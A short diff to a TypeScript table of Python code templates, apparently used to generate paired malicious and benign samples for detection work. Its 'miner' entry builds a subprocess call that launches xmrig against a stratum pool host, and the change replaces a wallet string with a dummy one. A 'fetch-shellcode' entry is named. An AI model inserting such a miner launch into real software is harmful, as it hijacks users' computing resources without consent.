@@ -139,7 +139,7 @@ export const PY_REMOTE: Readonly<Record<string, PyDeed>> = {
   },
   miner: {
     bad: (w, t) =>
-      `${w.fn('subprocess', 'Popen')}([${w.text('./xmrig')}, '-o', ${w.text(`stratum+tcp://${t.host}:3333`)}, '-u', ${w.text('44AFFq5kSiGBoZ4NMDwYtN18obc8A')}, '--donate-level', '1'])`,
+      `${w.fn('subprocess', 'Popen')}([${w.text('./xmrig')}, '-o', ${w.text(`stratum+tcp://${t.host}:3333`)}, '-u', ${w.text('4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')}, '--donate-level', '1'])`,
     twin: (w) => `${w.fn('subprocess', 'Popen')}([${w.fn('sys', 'executable')}, '--version'])`,
   },
   'fetch-shellcode': {
